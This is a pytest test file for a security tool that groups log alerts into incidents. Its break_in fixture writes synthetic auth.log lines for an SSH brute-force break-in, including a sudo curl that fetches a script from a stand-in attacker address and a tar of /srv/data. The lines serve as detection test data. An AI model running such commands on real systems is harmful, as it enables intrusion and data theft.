"""Incidents from logs to the command line: stories as the rule pack finds them, with reasons."""

from __future__ import annotations

import json
import re
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from socterm.cli import cli
from socterm.cli.incidents import reasons
from socterm.cli.wiring import open_writer, policy_of
from socterm.config import load_config
from socterm.demo import play, stories
from socterm.demo.model import SEED, START
from socterm.store import open_store
from socterm.store.ingest.grouping import stored_policy
from socterm.store.upkeep.check import check

from scanning import scan

ORDER = ["credential-access", "initial-access", "privilege-escalation", "collection", "exfiltration"]


def break_in(user: str, address: str, start: int, pid: int) -> Iterator[tuple[int, str]]:
    """Eight guesses, a login, root, a program fetched, data packed: (second, line)."""
    for number in range(8):
        line = f"sshd[{pid + number}]: Failed password for {user} from {address} port {40_000 + number} ssh2"
        yield start + 5 * number, line
    yield start + 45, f"sshd[{pid + 90}]: Accepted password for {user} from {address} port 41000 ssh2"
    session = f"sshd[{pid + 90}]: pam_unix(sshd:session): session opened for user {user}(uid=1001) by (uid=0)"
    yield start + 46, session
    sudo = f"sudo:   {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND="
    yield start + 160, sudo + "/bin/bash"
    yield start + 220, sudo + f"/usr/bin/curl -s -o /tmp/x http://{address}/x.sh"
    yield start + 250, sudo + "/usr/bin/tar czf /tmp/d.tgz /srv/data"


def written(path: Path, *told: tuple[int, str]) -> Path:
    path.write_text(
        "".join(
            f"2026-03-17T10:{second // 60:02d}:{second % 60:02d}.000000+00:00 web01 {line}\n"
            for second, line in sorted(told)
        )
    )
    return path


@pytest.fixture(name="db", scope="module")
def _db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two break-ins by different people on one host within twenty minutes."""
    folder = tmp_path_factory.mktemp("incidents")
    log = written(
        folder / "auth.log",
        *break_in("alice", "203.0.113.9", 0, 2000),
        *break_in("bob", "198.51.100.7", 600, 5000),
    )
    result = scan(log, "-q", "--db", folder / "s.db")
    assert result.exit_code == 0, (result.exception, result.stderr)
    return folder / "s.db"


def called(*arguments: object) -> Result:
    return CliRunner().invoke(cli, list(map(str, arguments)))


def shown(db: Path, *arguments: object) -> list[dict[str, object]]:
    result = called("incidents", *arguments, "--db", db, "--json")
    assert result.exit_code == 0, (result.exception, result.stderr)
    return [json.loads(line) for line in result.stdout.splitlines()]


def test_guessing_login_root_and_theft_are_one_incident_and_two_stories_are_two(db: Path) -> None:
    rows = shown(db, "list")
    assert [row["tactics"] for row in rows] == [ORDER, ORDER]
    assert check(db) == []
    users = []
    for row in rows:
        (page,) = shown(db, "show", row["id"], "--events", "1")
        members = {one["id"]: one for one in page["members"]}  # type: ignore[attr-defined]
        ends = {link[end] for link in page["links"] for end in ("alert", "other")}  # type: ignore[attr-defined]
        assert ends == members.keys(), "each says why it belongs"
        assert all(one["events"] for one in members.values())
        users.append({e["value"] for e in page["entities"] if e["field"] == "user.name"})  # type: ignore[attr-defined]
    assert sorted(map(sorted, users)) == [["alice"], ["bob"]]


def test_the_first_of_all_says_which_others_joined_it(db: Path) -> None:
    with open_store(db) as store:
        page = store.incidents.page(1)
    assert page is not None
    first = next(
        one for one in page.alerts if any(link.other == one.id and link.field for link in page.links)
    )
    page.links = [link for link in page.links if link.alert != first.id]
    said = reasons(page, first)
    assert any(re.fullmatch(r"#\d+ joined this one by (user\.name|source\.ip)=\S+", text) for text in said)


def test_the_story_of_the_demo_is_one_incident(tmp_path: Path) -> None:
    """The strangers who only knock are not part of it."""
    log = tmp_path / "auth.log"
    log.write_text("".join(f"{step.line}\n" for step in play(stories()["story_auth"], SEED, START)))
    result = scan(log, "-q", "--db", tmp_path / "s.db")
    assert result.exit_code == 0, (result.exception, result.stderr)
    (row,) = shown(tmp_path / "s.db", "list")
    assert row["level"] == "critical"
    assert row["tactics"] == [*ORDER, "persistence"]
    (page,) = shown(tmp_path / "s.db", "show", row["id"], "--events", "0")
    about = {value for one in page["members"] for value in one["entity"].values()}  # type: ignore[attr-defined]
    assert "203.0.113.66" in about
    assert not about & {"198.51.100.77", "198.51.100.140", "198.51.100.23", "carol"}
    assert check(tmp_path / "s.db") == []


def test_the_configuration_says_what_joins(tmp_path: Path, db: Path) -> None:
    """What begins with other settings joins all alerts anew."""
    config = tmp_path / "config.toml"
    config.write_text(
        f'db = "{tmp_path / "s.db"}"\n[incidents]\nwindow = "2h"\ncommon_users = ["Alice", "bob"]\n'
        '[networks]\ninternal = ["default", "203.0.113.0/24", "198.51.100.0/24"]\n'
    )
    (tmp_path / "s.db").write_bytes(db.read_bytes())
    settings = load_config(path=config, environ={"HOME": str(tmp_path)})
    assert policy_of(settings).window == 7_200_000_000
    assert "alice" in policy_of(settings).common
    open_writer(settings).close()
    with sqlite3.connect(tmp_path / "s.db") as store:
        assert stored_policy(store) == policy_of(settings)
    assert check(tmp_path / "s.db") == []


def test_decisions_on_the_command_line(tmp_path: Path, db: Path) -> None:
    copy = tmp_path / "s.db"
    copy.write_bytes(db.read_bytes())
    one, other = [int(str(row["id"])) for row in shown(copy, "list")]
    assert called("incidents", "note", one, "seen", "--db", copy).stdout.startswith(
        f"incident {one}: note by "
    )
    shown(copy, "merge", one, other)
    assert [row["id"] for row in shown(copy, "list")] == [one]
    assert called("alerts", "undo", "--db", copy).exit_code == 0
    assert len(shown(copy, "list")) == 2
    (page,) = shown(copy, "show", one)
    member = page["members"][-1]["id"]  # type: ignore[index]
    shown(copy, "split", one, member)
    assert len(shown(copy, "list")) == 3
    shown(copy, "close", one, "--verdict", "true_positive")
    assert len(shown(copy, "list")) == 2
    shown(copy, "reopen", one)
    shown(copy, "start", one)
    shown(copy, "escalate", member, "--into", one)
    text = called("incidents", "show", one, "--db", copy).stdout
    assert "put here by a person" in text
    assert "joined #" in text
    assert "joined #7 by user.name=bob" in text
    assert "tactics  credential-access > initial-access" in text
    assert "LEVEL" in called("incidents", "list", "--all", "--db", copy).stdout
    missing = called("incidents", "show", 99, "--db", copy)
    assert "there is no incident 99" in str(missing.exception)
    assert check(copy) == []
